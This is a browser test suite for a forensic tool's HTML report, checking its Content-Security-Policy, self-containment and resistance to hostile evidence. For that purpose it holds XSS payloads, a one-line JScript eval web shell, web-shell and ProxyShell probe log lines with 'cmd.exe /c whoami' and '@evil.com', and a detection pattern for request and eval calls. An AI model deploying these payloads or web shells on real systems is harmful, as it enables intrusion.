// The HTML report, opened the way its readers open it: in a real browser (headless Chromium), from a
// file (a USB stick) and from a loopback server. It must load nothing, log nothing, run only its own
// script, put the verdict first, and keep its tables' controls working; and whatever the evidence
// holds — in any field of the Report — must stay text that runs nothing and loads nothing.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import type { Report } from '../src/core/types.js';
import { writerById } from '../src/report/registry.js';
import { iisHeader, iisLine } from '../tools/corpus/formats.js';
import { ATTACKER_EXPLOIT_IP, ATTACKER_SHELL_IP } from '../tools/corpus/intrusion.js';
import { type WatchedPage, launchChromium, serveOnce, watchedPage } from './browser.js';
import { collection, huntFixed, repoRoot, tempDir } from './helpers.js';

const DEMO = path.join(repoRoot(), 'examples', 'demo-triage');
const SCREENSHOT = path.join(repoRoot(), 'test-results', 'html-report-demo.png');

/** Each one, if it ever ran, sets window.__xss, opens a frame, or makes a request. */
const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '"><svg onload="window.__xss=3">',
  `'><iframe srcdoc="<script>parent.__xss=4</script>">`,
  'javascript:window.__xss=5',
  '</textarea></style></script><script>window.__xss=6</script>',
  '<a href="javascript:window.__xss=7">x</a>',
  "{{constructor.constructor('window.__xss=8')()}}",
  '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:1/">',
  '<link rel=stylesheet href=http://127.0.0.1:1/x.css>',
  '<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>',
];
const ALL_PAYLOADS = PAYLOADS.join(' ');

const SEVERITY_RANK: Record<string, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

function renderHtml(report: Report): string {
  const writer = writerById('html');
  assert.ok(writer, "writerById('html') returns nothing: htmlWriter is not in src/report/registry.ts");
  return writer.render(report, { color: false, width: 100 });
}

// --- the reports ------------------------------------------------------------------------------

/**
 * Logs and files whose attacker-controlled parts are the payloads: web shells named after them and
 * requested with them as query, user, referer and user agent; ProxyShell probes carrying them; and
 * swept files whose names are payloads (those without a `/`).
 */
function hostileCollection(): string {
  const t0 = Date.parse('2021-03-05T03:06:27Z');
  const w3c = (s: string) => s.replace(/ /g, '+'); // W3C logs write spaces as '+'
  const base = { serverIp: '10.0.0.5', port: 443, user: '', status: 200, timeTaken: 5 };
  const lines = PAYLOADS.flatMap((p, i) => {
    const at = t0 + i * 60_000;
    return [
      iisLine({ ...base, time: at, method: 'POST', stem: `/owa/auth/${w3c(p)}.aspx`, query: `cmd=${w3c(p)}`, user: w3c(p), clientIp: ATTACKER_SHELL_IP, userAgent: p, referer: w3c(p) }),
      iisLine({ ...base, time: at + 1000, method: 'GET', stem: `/aspnet_client/x${i}.aspx`, query: `exec=cmd.exe+/c+whoami&p=${w3c(p)}`, clientIp: ATTACKER_EXPLOIT_IP, userAgent: p }),
      iisLine({ ...base, time: at + 2000, method: 'GET', stem: '/autodiscover/autodiscover.json', query: `@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com&x=${w3c(p)}`, clientIp: ATTACKER_EXPLOIT_IP, userAgent: p }),
    ];
  });
  const files: Record<string, string> = { 'W3SVC1/u_ex210305.log': `${iisHeader(t0)}${lines.join('\r\n')}\r\n` };
  for (const p of PAYLOADS.filter((x) => !x.includes('/'))) {
    files[`C/inetpub/wwwroot/aspnet_client/${p}.aspx`] = '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>';
  }
  return collection(files);
}

/** Keys whose values the report's shape fixes (enums, the schema); poisoning them would only make the Report invalid. */
const KEEP_KEYS = new Set(['schemaVersion', 'severity', 'stage', 'status', 'source', 'verdict', 'phase', 'kind', 'minSeverity']);
/** Times stay parseable so that the chart and the timeline still have something to draw. */
const ISO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/;

/**
 * Appends every payload to every string in the report, in place, except the enum-like fields and
 * ISO times. The change is a function of the value, so ids and the references to them (steps'
 * findings, context events' intrusion) still match. Each `details` map also gets a payload key.
 */
function poison(node: unknown, key = ''): unknown {
  if (typeof node === 'string') return KEEP_KEYS.has(key) || ISO_TIME.test(node) ? node : `${node} ${ALL_PAYLOADS}`;
  if (Array.isArray(node)) return node.map((x) => poison(x, key));
  if (node && typeof node === 'object') {
    const obj = node as Record<string, unknown>;
    for (const [k, v] of Object.entries(obj)) obj[k] = poison(v, k);
    if (key === 'details') obj[ALL_PAYLOADS] = [ALL_PAYLOADS];
  }
  return node;
}

/** The demo plus the hostile collection, then every string field poisoned, with the lists that were empty given one entry each. */
async function hostileReport(): Promise<Report> {
  const r = await huntFixed([DEMO, hostileCollection()]);
  const json = JSON.stringify(r);
  const carried = (p: string) => [p, p.replace(/ /g, '+')].some((v) => json.includes(JSON.stringify(v).slice(1, -1)));
  assert.deepEqual(PAYLOADS.filter((p) => !carried(p)), [], 'the hunt itself carries every payload into the report');
  r.errors.push({ input: 1, file: 'W3SVC1/u_ex210306.log', line: 3, offset: 120, code: 'E_PARSE', message: 'expected 15 fields' });
  r.skipped.push({ input: 1, file: 'W3SVC1/u_ex210307.log', reason: 'unreadable' });
  r.verdict.gaps.push('No HttpProxy logs');
  return poison(r) as Report;
}

interface Rendered {
  report: Report;
  html: string;
}

let demoPromise: Promise<Rendered> | undefined;
let hostilePromise: Promise<Rendered> | undefined;

function demo(): Promise<Rendered> {
  demoPromise ??= huntFixed([DEMO]).then((report) => ({ report, html: renderHtml(report) }));
  return demoPromise;
}

function hostile(): Promise<Rendered> {
  hostilePromise ??= hostileReport().then((report) => ({ report, html: renderHtml(report) }));
  return hostilePromise;
}

// --- the page as text -------------------------------------------------------------------------

function sha256(text: string): string {
  return `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
}

interface Markup {
  /** Start tags, each `<name attrs…>` (evidence is escaped, so every `<` that opens a tag is the writer's). */
  tags: { name: string; attrs: Map<string, string>; at: number }[];
  scripts: { attrs: string; body: string }[];
  styles: string[];
}

const ENTITY: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

function decodeAttr(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (m, e: string) => {
    if (e[0] !== '#') return ENTITY[e.toLowerCase()] ?? m;
    return String.fromCodePoint(e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : Number(e.slice(1)));
  });
}

function parseMarkup(html: string): Markup {
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi)].map((m) => ({ attrs: m[1]!, body: m[2]! }));
  const styles = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style\s*>/gi)].map((m) => m[1]!);
  // Tags are looked for outside script and style bodies (blanked, so that offsets stay true).
  const outside = html.replace(/(<(script|style)\b[^>]*>)([\s\S]*?)(<\/\2\s*>)/gi, (_m, open: string, _n: string, body: string, close: string) => open + ' '.repeat(body.length) + close);
  const tags: Markup['tags'] = [];
  for (const m of outside.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*)\s*\/?>/g)) {
    const attrs = new Map<string, string>();
    for (const a of m[2]!.matchAll(/([^\s=>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+)))?/g)) attrs.set(a[1]!.toLowerCase(), decodeAttr(a[2] ?? a[3] ?? a[4] ?? ''));
    tags.push({ name: m[1]!.toLowerCase(), attrs, at: m.index });
  }
  return { tags, scripts, styles };
}

/** The Content-Security-Policy meta's directives, after checking there is exactly one and it comes before any script or style. */
function cspOf(html: string, markup: Markup): Map<string, string[]> {
  const metas = markup.tags.filter((t) => t.name === 'meta' && t.attrs.get('http-equiv')?.toLowerCase() === 'content-security-policy');
  assert.equal(metas.length, 1, 'exactly one Content-Security-Policy meta');
  const meta = metas[0]!;
  const firstActive = markup.tags.find((t) => t.name === 'script' || t.name === 'style');
  assert.ok(!firstActive || meta.at < firstActive.at, 'the CSP meta comes before the first <script> or <style> (a meta policy only covers what follows it)');
  assert.ok(meta.at < html.search(/<\/head>/i), 'the CSP meta is in <head>');
  const directives = new Map<string, string[]>();
  for (const d of meta.attrs.get('content')!.split(';')) {
    const [name, ...values] = d.trim().split(/\s+/);
    if (name) directives.set(name, values);
  }
  return directives;
}

/** Attributes that make a browser fetch or navigate. */
const URL_ATTRS = ['src', 'srcset', 'srcdoc', 'href', 'xlink:href', 'action', 'formaction', 'poster', 'data', 'background', 'ping', 'manifest', 'codebase', 'cite'];

function assertSelfContained(html: string, label: string): void {
  const markup = parseMarkup(html);
  const csp = cspOf(html, markup);
  assert.deepEqual(csp.get('default-src'), ["'none'"], `${label}: default-src 'none'`);
  assert.deepEqual(csp.get('img-src'), ['data:'], `${label}: img-src data:`);
  assert.deepEqual(csp.get('base-uri'), ["'none'"], `${label}: base-uri 'none'`);
  assert.deepEqual(csp.get('form-action'), ["'none'"], `${label}: form-action 'none'`);
  // Hashes only: no 'unsafe-inline', no 'unsafe-eval', no host, and one per inline script/style.
  const executable = markup.scripts.filter((s) => !/\btype\s*=\s*["']?(application\/json|text\/plain)/i.test(s.attrs));
  assert.ok(executable.length > 0, `${label}: the report ships its script inline`);
  assert.deepEqual([...(csp.get('script-src') ?? [])].sort(), [...new Set(executable.map((s) => sha256(s.body)))].sort(), `${label}: script-src lists exactly the hashes of the inline scripts`);
  assert.deepEqual([...(csp.get('style-src') ?? [])].sort(), [...new Set(markup.styles.map(sha256))].sort(), `${label}: style-src lists exactly the hashes of the inline styles`);

  assert.doesNotMatch(html, /<script\b[^>]*\bsrc\s*=/i, `${label}: no <script src>`);
  assert.doesNotMatch(html, /<link\b/i, `${label}: no <link>`);
  for (const name of ['iframe', 'frame', 'object', 'embed', 'img', 'base', 'form', 'audio', 'video', 'source', 'track', 'image', 'use', 'foreignobject']) {
    assert.deepEqual(markup.tags.filter((t) => t.name === name).map((t) => t.at), [], `${label}: no <${name}> element`);
  }
  // No URL leaves the page: attributes that fetch or navigate only point at fragments (an http(s)
  // address elsewhere, in a title or a sort key, is text); the script and the style name none.
  for (const t of markup.tags) {
    for (const [name, value] of t.attrs) {
      if (URL_ATTRS.includes(name)) assert.match(value, /^#/, `${label}: <${t.name} ${name}="${value.slice(0, 80)}"> points outside the page`);
      if (t.name === 'meta' && name === 'content') assert.ok(!/https?:|url\s*=/i.test(value), `${label}: <meta content="${value.slice(0, 80)}">`);
      assert.ok(!/^on/.test(name), `${label}: <${t.name}> has an event-handler attribute ${name}`);
      assert.ok(name !== 'style', `${label}: <${t.name}> has a style attribute (the CSP refuses inline styles)`);
    }
  }
  for (const s of executable) {
    assert.doesNotMatch(s.body.replace(/https?:\/\/www\.w3\.org\/[\w/.]*/g, ''), /https?:\/\/|\/\/[a-z0-9.-]+\.[a-z]{2,}\//i, `${label}: the inline script names no URL`);
    assert.doesNotMatch(s.body, /\b(fetch|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts)\b|\bimport\s*\(|\beval\s*\(|new\s+Function\b|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write/, `${label}: the inline script neither requests nor turns text into markup or code`);
  }
  for (const css of markup.styles) {
    assert.doesNotMatch(css, /@import|url\(\s*["']?(?!data:)/i, `${label}: the style loads nothing`);
  }
}

// --- driving the page -------------------------------------------------------------------------

interface Opened extends WatchedPage {
  url: string;
  /** What the loopback server was asked for (http only). */
  hits?: string[];
}

/** Opens the HTML from a temporary file (`file://`) or from a one-page loopback server (`http://`). */
async function openReport(browser: Browser, html: string, via: 'file' | 'http'): Promise<Opened> {
  if (via === 'file') {
    const file = path.join(tempDir('exhunt-html-'), 'report.html');
    writeFileSync(file, html);
    const url = pathToFileURL(file).href;
    const w = await watchedPage(browser, url);
    await w.page.goto(url, { waitUntil: 'load' });
    return { ...w, url };
  }
  const server = await serveOnce(html);
  const w = await watchedPage(browser, server.url);
  await w.page.goto(server.url, { waitUntil: 'load' });
  return {
    ...w,
    url: server.url,
    hits: server.hits,
    close: async () => {
      await w.close();
      await server.close();
    },
  };
}

/** Nothing logged, thrown, asked, requested or refused by the policy: the page alone, once. */
async function assertQuiet(o: Opened, label: string): Promise<void> {
  assert.deepEqual(o.watch.pageErrors, [], `${label}: uncaught errors`);
  assert.deepEqual(o.watch.console, [], `${label}: console errors or warnings`);
  assert.deepEqual(o.watch.dialogs, [], `${label}: dialogs`);
  assert.deepEqual(await o.cspViolations(), [], `${label}: Content-Security-Policy violations`);
  assert.deepEqual(o.watch.requests, [o.url], `${label}: requests other than the document itself`);
  if (o.hits) assert.deepEqual(o.hits, ['/report.html'], `${label}: what the server was asked for`);
  assert.equal(o.page.frames().length, 1, `${label}: frames`);
  assert.deepEqual([...new Set(o.watch.navigations)], [o.url], `${label}: the page navigated away`);
}

interface Row {
  text: string;
  severity: string | null;
  hidden: boolean;
}

function rows(page: Page, tableId: string): Promise<Row[]> {
  return page.$$eval(`table#${tableId} > tbody > tr`, (trs) => trs.map((tr) => ({ text: String(tr.textContent), severity: tr.getAttribute('data-severity') as string | null, hidden: tr.hasAttribute('hidden') as boolean })));
}

const visible = (rs: Row[]) => rs.filter((r) => !r.hidden);

async function countText(page: Page, tableId: string): Promise<string> {
  return ((await page.textContent(`.filter-count[data-table="${tableId}"]`)) ?? '').trim();
}

/** Sort keys of a column, in row order: the cell's data-sort-value, else its text. */
function columnKeys(page: Page, tableId: string, index: number): Promise<string[]> {
  return page.$$eval(
    `table#${tableId} > tbody > tr`,
    (trs, i) => trs.map((tr) => {
      const cell = tr.cells[i];
      if (!cell) return '';
      return String(cell.hasAttribute('data-sort-value') ? cell.getAttribute('data-sort-value') : cell.textContent).trim();
    }),
    index,
  );
}

/** Sorted by some reasonable order: numbers as numbers, text by code unit or by locale, case-insensitively. */
function isSortedAscending(keys: string[]): boolean {
  const numeric = keys.length > 0 && keys.every((k) => k !== '' && Number.isFinite(Number(k)));
  const orders: ((a: string, b: string) => number)[] = numeric
    ? [(a, b) => Number(a) - Number(b)]
    : [(a, b) => (a.toLowerCase() < b.toLowerCase() ? -1 : a.toLowerCase() > b.toLowerCase() ? 1 : 0), (a, b) => a.localeCompare(b, undefined, { numeric: true, sensitivity: 'base' })];
  return orders.some((cmp) => keys.every((k, i) => i === 0 || cmp(keys[i - 1]!, k) <= 0));
}

/** Every sortable column: ascending then descending, aria-sort set, keys in order and reversed. Returns the columns whose order changed the first row. */
async function checkSorting(page: Page, tableId: string): Promise<string[]> {
  const headers = page.locator(`table#${tableId} th[data-sort-key]`);
  const n = await headers.count();
  assert.ok(n > 0, `${tableId}: no th[data-sort-key]`);
  const changedFirstRow: string[] = [];
  for (let h = 0; h < n; h++) {
    const th = headers.nth(h);
    const key = (await th.getAttribute('data-sort-key')) ?? '';
    const index = await th.evaluate((el) => Number(el.cellIndex));
    const button = th.locator('button');
    assert.equal(await button.count(), 1, `${tableId} ${key}: one button in the header`);
    await button.click();
    assert.equal(await th.getAttribute('aria-sort'), 'ascending', `${tableId} ${key}: aria-sort after one click`);
    const asc = await columnKeys(page, tableId, index);
    const ascFirst = (await rows(page, tableId))[0]?.text;
    assert.ok(isSortedAscending(asc), `${tableId} ${key}: not ascending: ${asc.slice(0, 12).join(' | ')}`);
    await button.click();
    assert.equal(await th.getAttribute('aria-sort'), 'descending', `${tableId} ${key}: aria-sort after a second click`);
    const desc = await columnKeys(page, tableId, index);
    assert.deepEqual(desc, [...asc].reverse(), `${tableId} ${key}: descending is ascending reversed`);
    if ((await rows(page, tableId))[0]?.text !== ascFirst) changedFirstRow.push(key);
    // Only the column last sorted says it is sorted.
    const sortedHeaders = await page.$$eval(`table#${tableId} th[aria-sort]`, (ths) => ths.filter((t) => t.getAttribute('aria-sort') !== 'none').length);
    assert.equal(sortedHeaders, 1, `${tableId} ${key}: one header carries aria-sort`);
  }
  return changedFirstRow;
}

/** Types into a table's filter and checks the rows shown and the count. */
async function checkTextFilter(page: Page, tableId: string, needle: string): Promise<void> {
  const all = await rows(page, tableId);
  const input = page.locator(`input.filter[data-table="${tableId}"]`);
  assert.equal(await input.getAttribute('type'), 'search', `${tableId}: the filter is a search field`);
  await input.fill(needle);
  const shown = visible(await rows(page, tableId));
  assert.ok(shown.length > 0, `${tableId}: "${needle}" matches some row`);
  assert.ok(shown.length < all.length, `${tableId}: "${needle}" hides some rows (${shown.length} of ${all.length} shown)`);
  for (const r of shown) assert.ok(r.text.toLowerCase().includes(needle.toLowerCase()), `${tableId}: a row without "${needle}" stays visible: ${r.text.slice(0, 120)}`);
  const hiddenWithNeedle = (await rows(page, tableId)).filter((r) => r.hidden && r.text.toLowerCase().includes(needle.toLowerCase()));
  assert.deepEqual(hiddenWithNeedle.map((r) => r.text.slice(0, 80)), [], `${tableId}: rows containing "${needle}" were hidden`);
  assert.match(await countText(page, tableId), new RegExp(`^${shown.length} of ${all.length} rows?$`), `${tableId}: the count after filtering`);
  await input.fill('');
  assert.equal(visible(await rows(page, tableId)).length, all.length, `${tableId}: clearing the filter shows every row`);
  assert.match(await countText(page, tableId), new RegExp(`^${all.length} of ${all.length} rows?$`), `${tableId}: the count after clearing`);
}

/** Opens every <details>, clicks every button and link, types every payload into every filter, picks every severity, hovers every bar. */
async function exerciseEverything(page: Page): Promise<void> {
  // Summaries and links get DOM clicks: the same default action and handlers, and quick for hundreds.
  // In document order, so that a <details> opens before the ones inside it.
  await page.$$eval('details > summary', (ss) => ss.forEach((s) => {
    if (!s.parentElement.hasAttribute('open')) s.click();
  }));
  assert.equal(await page.locator('details:not([open])').count(), 0, 'every <details> opened');
  const buttons = page.locator('button');
  for (let i = 0; i < (await buttons.count()); i++) {
    const b = buttons.nth(i);
    if (await b.isVisible()) await b.click();
    else await b.evaluate((el) => el.click());
  }
  await page.$$eval('a', (as) => as.forEach((a) => a.click()));
  const filters = page.locator('input.filter');
  for (let i = 0; i < (await filters.count()); i++) {
    for (const p of PAYLOADS) await filters.nth(i).fill(p);
    await filters.nth(i).fill('');
  }
  const selects = page.locator('select.severity-filter');
  for (let i = 0; i < (await selects.count()); i++) {
    for (const v of ['critical', 'high', 'medium', 'low', 'info', 'all']) await selects.nth(i).selectOption(v);
  }
  const bars = page.locator('svg#activity-chart rect.bar');
  for (let i = 0; i < (await bars.count()); i++) await bars.nth(i).hover();
  // A refresh or a late handler would act now.
  await page.waitForTimeout(300);
}

/** Elements a page can only have if markup from the evidence became markup. */
async function injectedElements(page: Page): Promise<string[]> {
  return page.$$eval('*', (els, urlAttrs) => {
    const found: string[] = [];
    for (const el of els) {
      const tag = String(el.tagName).toLowerCase();
      if (['iframe', 'frame', 'object', 'embed', 'img', 'link', 'base', 'form', 'image'].includes(tag)) found.push(`<${tag}>`);
      if (tag === 'meta' && /refresh/i.test(String(el.getAttribute('http-equiv')))) found.push('<meta http-equiv=refresh>');
      for (const a of Array.from(el.attributes) as { name: string; value: string }[]) {
        if (/^on/i.test(a.name)) found.push(`<${tag} ${a.name}>`);
        if (urlAttrs.includes(a.name.toLowerCase()) && /^\s*(javascript|vbscript|data):/i.test(a.value)) found.push(`<${tag} ${a.name}="${a.value.slice(0, 40)}">`);
        if (a.name === 'srcdoc') found.push(`<${tag} srcdoc>`);
      }
    }
    return found;
  }, URL_ATTRS);
}

function scriptCount(page: Page): Promise<number> {
  return page.$$eval('script', (s) => s.length);
}

// --- the tests --------------------------------------------------------------------------------

describe('HTML report, as a file', () => {
  test('the demo and the hostile report are self-contained: one CSP meta whose hashes are the inline script and style, no outside reference', async () => {
    const d = await demo();
    const h = await hostile();
    assertSelfContained(d.html, 'demo');
    assertSelfContained(h.html, 'hostile');
    const meta = (html: string) => /<meta http-equiv="Content-Security-Policy"[^>]*>/i.exec(html)?.[0];
    assert.equal(meta(h.html), meta(d.html), 'the same policy whatever the evidence: nothing from the report is in the hashed script or style');
    assert.equal(parseMarkup(h.html).scripts.length, parseMarkup(d.html).scripts.length, 'as many <script> elements as the benign report');
  });

  test('no payload reaches the HTML unescaped', async () => {
    const { html } = await hostile();
    for (const p of PAYLOADS.filter((x) => /[<>"']/.test(x))) assert.ok(!html.includes(p), `raw in the HTML: ${p}`);
  });
});

describe('HTML report in Chromium', () => {
  // Launched once for the file; a launch failure (Chromium missing) fails every test with its message.
  let launched: Promise<Browser> | undefined;
  const chromium = (): Promise<Browser> => launched!;
  let benignScripts = 0;

  before(() => {
    launched = launchChromium();
    launched.catch(() => undefined);
  });

  after(async () => {
    await (await launched?.catch(() => undefined))?.close();
  });

  test('the watch sees requests, dialogs, console errors and policy violations (control pages)', async () => {
    const noisy = '<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><img src="http://127.0.0.1:1/x.png"><script>console.warn("w"); alert(1); window.__xss = 1;</script></body></html>';
    const a = await openReport(await chromium(), noisy, 'http');
    try {
      assert.ok(a.watch.requests.some((u) => u.startsWith('http://127.0.0.1:1/')), `requests seen: ${a.watch.requests.join(', ')}`);
      assert.deepEqual(a.watch.dialogs, ['alert: 1']);
      assert.ok(a.watch.console.some((m) => m.startsWith('warning: w')));
      assert.equal(await a.page.evaluate('window.__xss'), 1);
    } finally {
      await a.close();
    }
    const strict = `<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'"></head><body><script>window.__xss = 1;</script></body></html>`;
    const b = await openReport(await chromium(), strict, 'file');
    try {
      assert.ok((await b.cspViolations()).some((v) => v.startsWith('script-src')), 'the inline script was refused and reported');
      assert.equal(await b.page.evaluate('window.__xss'), undefined);
    } finally {
      await b.close();
    }
  });

  for (const via of ['file', 'http'] as const) {
    test(`the demo report loads from ${via}:// with no error, warning, request or policy violation`, async () => {
      const { html } = await demo();
      const o = await openReport(await chromium(), html, via);
      try {
        await o.page.waitForTimeout(200);
        await assertQuiet(o, `demo via ${via}`);
        benignScripts = await scriptCount(o.page);
        assert.ok(benignScripts > 0, 'the report ships a script');
      } finally {
        await o.close();
      }
    });
  }

  test('verdict first (COMPROMISED), then the story, then the evidence; the chart draws its bars', async () => {
    const { html, report } = await demo();
    const o = await openReport(await chromium(), html, 'file');
    try {
      const { page } = o;
      const verdict = page.locator('section#verdict');
      assert.equal(await verdict.getAttribute('data-status'), 'COMPROMISED');
      assert.match(await verdict.innerText(), /COMPROMISED/);
      const top = async (sel: string) => {
        const box = await page.locator(sel).boundingBox();
        assert.ok(box, `${sel} is rendered`);
        return box.y;
      };
      const [v, x, f] = [await top('section#verdict'), await top('section#intrusions'), await top('section#findings')];
      assert.ok(v < x && x < f, `verdict (${v}) above intrusions (${x}) above findings (${f})`);
      assert.ok(v < 900, 'the verdict is on the first screen');
      const sectionTops = await page.$$eval('section', (ss) => ss.map((s) => ({ id: String(s.id), y: Number(s.getBoundingClientRect().top) })));
      assert.deepEqual(sectionTops.filter((s) => s.y < v).map((s) => s.id), [], 'no section above the verdict');
      const order = await page.evaluate<number[]>(`['verdict', 'intrusions', 'findings'].map((id) => [...document.querySelectorAll('section')].findIndex((s) => s.id === id))`);
      assert.ok(order[0]! >= 0 && order[0]! < order[1]! && order[1]! < order[2]!, `document order ${order.join(', ')}`);

      const intrusions = page.locator('section#intrusions article.intrusion');
      assert.equal(await intrusions.count(), report.intrusions!.length);
      assert.ok(report.intrusions!.length > 0);
      const story = (await intrusions.first().textContent()) ?? '';
      for (const sentence of report.intrusions![0]!.story) assert.ok(story.includes(sentence), `the story tells: ${sentence}`);

      const bars = page.locator('section#activity svg#activity-chart rect.bar');
      const n = await bars.count();
      assert.ok(n > 0, 'rect.bar in the chart');
      for (let i = 0; i < n; i++) {
        const box = await bars.nth(i).boundingBox();
        assert.ok(box && box.width > 0 && box.height > 0, `bar ${i} has a size: ${JSON.stringify(box)}`);
      }
      const titles = await page.$$eval('svg#activity-chart rect.bar', (rs) => rs.map((r) => String(r.querySelector(':scope > title')?.textContent ?? '').trim()));
      assert.deepEqual(titles.filter((t) => t === ''), [], 'every bar has a <title>');
      const legend = page.locator('section#activity [class*="legend"]');
      assert.ok((await legend.count()) > 0, 'the chart has a legend');
      assert.ok(((await legend.first().innerText()) ?? '').trim().length > 0, 'the legend names the kinds');
      await assertQuiet(o, 'demo page after reading');
    } finally {
      await o.close();
    }
  });

  test('filters and sorting: text and severity filters hide rows and update the count; sorting flips aria-sort and the order', async () => {
    const { html } = await demo();
    const o = await openReport(await chromium(), html, 'file');
    try {
      const { page } = o;
      const ids = await page.$$eval('section#attackers table, section#findings table, section#timeline table', (ts) => ts.map((t) => String(t.id)));
      for (const id of ['attackers-table', 'findings-table', 'timeline-table']) assert.ok(ids.includes(id), `table#${id} in its section (found ${ids.join(', ')})`);

      const all = await rows(page, 'findings-table');
      assert.ok(all.length > 5);
      assert.deepEqual(all.filter((r) => !(r.severity! in SEVERITY_RANK)).map((r) => r.text.slice(0, 60)), [], 'every findings row has data-severity');
      assert.match(await countText(page, 'findings-table'), new RegExp(`^${all.length} of ${all.length} rows?$`));
      await checkTextFilter(page, 'findings-table', ATTACKER_EXPLOIT_IP);
      await checkTextFilter(page, 'findings-table', 'WEB SHELL'); // case-insensitive
      await checkTextFilter(page, 'attackers-table', ATTACKER_EXPLOIT_IP);
      await checkTextFilter(page, 'timeline-table', ATTACKER_EXPLOIT_IP);

      const severity = page.locator('select.severity-filter[data-table="findings-table"]');
      assert.deepEqual(await severity.locator('option').evaluateAll((os) => os.map((x) => String(x.value))), ['all', 'critical', 'high', 'medium', 'low', 'info']);
      for (const [level, rank] of Object.entries(SEVERITY_RANK)) {
        await severity.selectOption(level);
        const shown = visible(await rows(page, 'findings-table'));
        const want = all.filter((r) => SEVERITY_RANK[r.severity!]! >= rank);
        assert.equal(shown.length, want.length, `at least ${level}: ${want.length} rows`);
        assert.deepEqual(shown.filter((r) => SEVERITY_RANK[r.severity!]! < rank).map((r) => r.severity), [], `at least ${level}`);
        assert.match(await countText(page, 'findings-table'), new RegExp(`^${shown.length} of ${all.length} rows?$`), `count at ${level}`);
      }
      await severity.selectOption('critical');
      assert.ok(visible(await rows(page, 'findings-table')).every((r) => r.severity === 'critical'));
      // Both filters at once: rows must pass both.
      await page.locator('input.filter[data-table="findings-table"]').fill(ATTACKER_EXPLOIT_IP);
      const both = visible(await rows(page, 'findings-table'));
      assert.ok(both.length > 0 && both.every((r) => r.severity === 'critical' && r.text.includes(ATTACKER_EXPLOIT_IP)), 'text and severity filters combine');
      await page.locator('input.filter[data-table="findings-table"]').fill('');
      await severity.selectOption('all');
      assert.equal(visible(await rows(page, 'findings-table')).length, all.length, 'all rows back');

      const changed = await checkSorting(page, 'findings-table');
      assert.ok(changed.length > 0, 'sorting some findings column changes which row comes first');
      await checkSorting(page, 'attackers-table');
      await checkSorting(page, 'timeline-table');
      assert.equal((await rows(page, 'findings-table')).length, all.length, 'sorting keeps every row');
      await assertQuiet(o, 'demo page after filtering and sorting');
    } finally {
      await o.close();
    }
  });

  test('a full-page screenshot of the demo report is written to test-results/html-report-demo.png', async () => {
    const { html } = await demo();
    const o = await openReport(await chromium(), html, 'file');
    try {
      mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
      await o.page.screenshot({ path: SCREENSHOT, fullPage: true });
    } finally {
      await o.close();
    }
    const png = readFileSync(SCREENSHOT);
    assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'a PNG');
    assert.ok(statSync(SCREENSHOT).size > 10 * 1024, `over 10 KB (${png.length} bytes)`);
  });

  for (const via of ['file', 'http'] as const) {
    test(`safe to open (${via}://): payloads in the logs and in every string field stay text, run nothing and load nothing`, async () => {
      const { html } = await hostile();
      if (benignScripts === 0) {
        const b = await openReport(await chromium(), (await demo()).html, via);
        benignScripts = await scriptCount(b.page);
        await b.close();
      }
      const o = await openReport(await chromium(), html, via);
      try {
        const { page } = o;
        await exerciseEverything(page).catch((e: unknown) => {
          throw new Error(`driving the page failed: ${String(e)}\nnavigations: ${o.watch.navigations.join(', ')}\nrequests: ${o.watch.requests.join(', ')}`);
        });
        assert.equal(await page.evaluate('window.__xss'), undefined, 'a payload ran');
        assert.equal(await scriptCount(page), benignScripts, 'only the report\'s own <script> elements');
        assert.deepEqual(await injectedElements(page), [], 'elements or attributes that came from the evidence');
        await assertQuiet(o, `hostile via ${via}`);
        const text = (await page.textContent('body')) ?? '';
        for (const p of PAYLOADS) assert.ok(text.includes(p), `shown as text: ${p}`);
        assert.ok((await page.locator('body').innerText()).includes(PAYLOADS[0]!), 'visible on the page');
        assert.equal(await page.locator('section#verdict').getAttribute('data-status'), 'COMPROMISED');
      } finally {
        await o.close();
      }
    });
  }
});
